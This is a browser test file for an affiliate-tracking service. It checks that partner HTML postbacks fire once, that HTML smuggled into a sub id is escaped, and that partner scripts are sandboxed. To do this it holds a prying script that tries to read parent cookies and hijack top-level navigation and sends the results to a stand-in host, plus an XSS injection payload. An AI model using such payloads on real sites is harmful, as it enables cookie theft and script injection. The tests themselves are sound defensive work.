import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { z } from "zod";
import { findChromium } from "../../browser/chromium-program.ts";
import { LandingWorld } from "../../browser/landing-world.ts";
import { OFFER, OTHER_PARTNER, SHOP, TRACK } from "../../browser/shop-seed.ts";
import { until } from "../../system/until.ts";

const PARTNER_SERVER = "http://partner.test";
/** What a partner's HTML may try to reach: the page around it, this domain's cookies, the whole tab. */
const PRYING = `<script>
  function attempt(what) { try { return String(what()); } catch (error) { return "refused"; } }
  var seen = [
    attempt(function () { return parent.parent.document.title; }),
    attempt(function () { return parent.document.cookie; }),
    attempt(function () { return document.cookie; }),
    attempt(function () { top.location = "${PARTNER_SERVER}/taken"; return "left"; }),
  ];
  new Image().src = "${PARTNER_SERVER}/pried?seen=" + seen.join();
</script>`;

const IFRAME = (query: string): string => `<iframe src="${TRACK}/px.html?${query}"></iframe>`;

const Row = z.object({ data: z.looseObject({ id: z.int() }) });
const Deliveries = z.object({
  data: z.array(z.looseObject({ conversion_id: z.string(), status: z.string() })),
});
const Rows = z.object({ data: z.array(z.looseObject({ id: z.int(), code: z.string() })) });
const program = findChromium();

describe.skipIf(program === undefined)("HTML postbacks on an advertiser's page", () => {
  let world: LandingWorld;
  let scope = { offer_id: 0, affiliate_id: 0 };
  const postbacks: number[] = [];
  beforeAll(async () => {
    world = await LandingWorld.open(program ?? "");
    // Other files use the same service at the same time: the partner is this file's own.
    scope = {
      offer_id: await idOf("/offers", OFFER),
      affiliate_id: await idOf("/affiliates", OTHER_PARTNER),
    };
  });
  afterEach(async () => {
    for (const id of postbacks.splice(0))
      await world.client.send("PATCH", `/postbacks/${id}`, { status: "paused" });
    await world.endVisits();
  });
  afterAll(() => world.close());

  const idOf = async (path: string, code: string): Promise<number> => {
    const { data } = Rows.parse(await world.client.rest(`${path}?q=${code}`));
    return data.find((row) => row.code === code)?.id ?? 0;
  };

  const addHtml = async (body: string): Promise<number> => {
    const fields = { ...scope, kind: "html", url: `${PARTNER_SERVER}/unused`, body };
    const { data } = Row.parse(await world.client.create("/postbacks", fields));
    postbacks.push(data.id);
    return data.id;
  };

  /** Opens a page with this HTML. Returns the requests of its frames to the partner's server. */
  const open = async (body: string) => {
    const requests: URL[] = [];
    const { page } = await world.visit({
      body,
      prepare: (tab) =>
        tab.route(`${PARTNER_SERVER}/**`, async (route) => {
          requests.push(new URL(route.request().url()));
          await route.fulfill({ status: 200, contentType: "image/gif", body: "" });
        }),
    });
    return { page, requests };
  };
  const requestFor = async (requests: readonly URL[], path: string): Promise<URL> =>
    await until(`the partner's server gets a request for ${path}`, () =>
      requests.find(({ pathname }) => pathname === path),
    );

  /**
   * The page of a new conversion, when its frames have asked the partner's server. An iframe waits two seconds for its HTML and then has none,
   * so on a busy machine it may take several conversions.
   */
  const firstServed = async (
    markup: (query: string) => string,
    path: string,
    newClick = async (): Promise<string> => await world.partnerClick(OTHER_PARTNER),
  ) =>
    await until(`an iframe is served in time and asks for ${path}`, async () => {
      const click = await newClick();
      const query = `click_id=${click}&txid=html-${click}`;
      const opened = await open(markup(query));
      await world.conversion(`html-${click}`);
      await opened.page.waitForLoadState("networkidle");
      const isServed = opened.requests.some(({ pathname }) => pathname === path);
      return isServed && { ...opened, click, query };
    });

  test.each([
    ["the iframe pixel", IFRAME],
    ["/px.js", (query: string) => `<script src="${TRACK}/px.js?${query}&html=1"></script>`],
  ])("the partner's pixel fires once through %s (PBO-032)", async (_name, markup) => {
    const postback = await addHtml(
      `<img src="${PARTNER_SERVER}/seen?c={click_id}&id={conversion_id}">`,
    );
    const { click, query, requests } = await firstServed(markup, "/seen");
    const { searchParams } = await requestFor(requests, "/seen");
    const txid = `html-${click}`;
    const conversion = await world.conversion(txid);
    expect(Object.fromEntries(searchParams)).toEqual({ c: click, id: conversion["id"] });
    const log = Deliveries.parse(await world.client.rest(`/postbacks/${postback}/deliveries`));
    expect(log.data.filter((one) => one.conversion_id === conversion["id"])).toMatchObject([
      {
        status: "delivered",
        error: "",
        response_body: `<img src="${PARTNER_SERVER}/seen?c=${click}&id=${String(conversion["id"])}">`,
      },
    ]);
    // A repeat is a duplicate, which fires no postback.
    const again = await open(markup(query));
    await until("the repeat is recorded", () => again.page.frames().length > 1);
    await again.page.waitForLoadState("networkidle");
    expect(again.requests).toEqual([]);
  });

  test("a sub id that contains HTML arrives as a value and runs nothing", async () => {
    await addHtml(`<i title='{sub1}'>{sub1}</i><img src="${PARTNER_SERVER}/sub?s={sub1}">`);
    const hostile = `'"><img src="${PARTNER_SERVER}/stolen"><script>new Image().src="${PARTNER_SERVER}/ran"</script>`;
    const clickWithIt = async (): Promise<string> => {
      const { headers } = await world.client.attempt(
        `${world.client.demo.tracking_url}/r/${OFFER}/${OTHER_PARTNER}?sub1=${encodeURIComponent(hostile)}`,
        { "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/120.0" },
      );
      return /click_id=([0-9a-f]{32})$/.exec(String(headers["location"]))?.[1] ?? "";
    };
    const { page, requests } = await firstServed(IFRAME, "/sub", clickWithIt);
    const { searchParams } = await requestFor(requests, "/sub");
    expect(searchParams.get("s")).toBe(hostile);
    await page.waitForLoadState("networkidle");
    expect(requests.map(({ pathname }) => pathname)).toEqual(["/sub"]);
  });

  test("a partner's script sees no page, no cookies and no other HTML, and cannot navigate", async () => {
    await addHtml(PRYING);
    await addHtml(`<img src="${PARTNER_SERVER}/other">`);
    const { page, requests } = await firstServed(IFRAME, "/other");
    await requestFor(requests, "/other");
    const { searchParams } = await requestFor(requests, "/pried");
    expect(searchParams.get("seen")).toBe("refused,refused,refused,refused");
    expect(page.url()).toMatch(new RegExp(`^${SHOP}/`));
    expect(requests.map(({ pathname }) => pathname).toSorted()).toEqual(["/other", "/pried"]);
  });
});
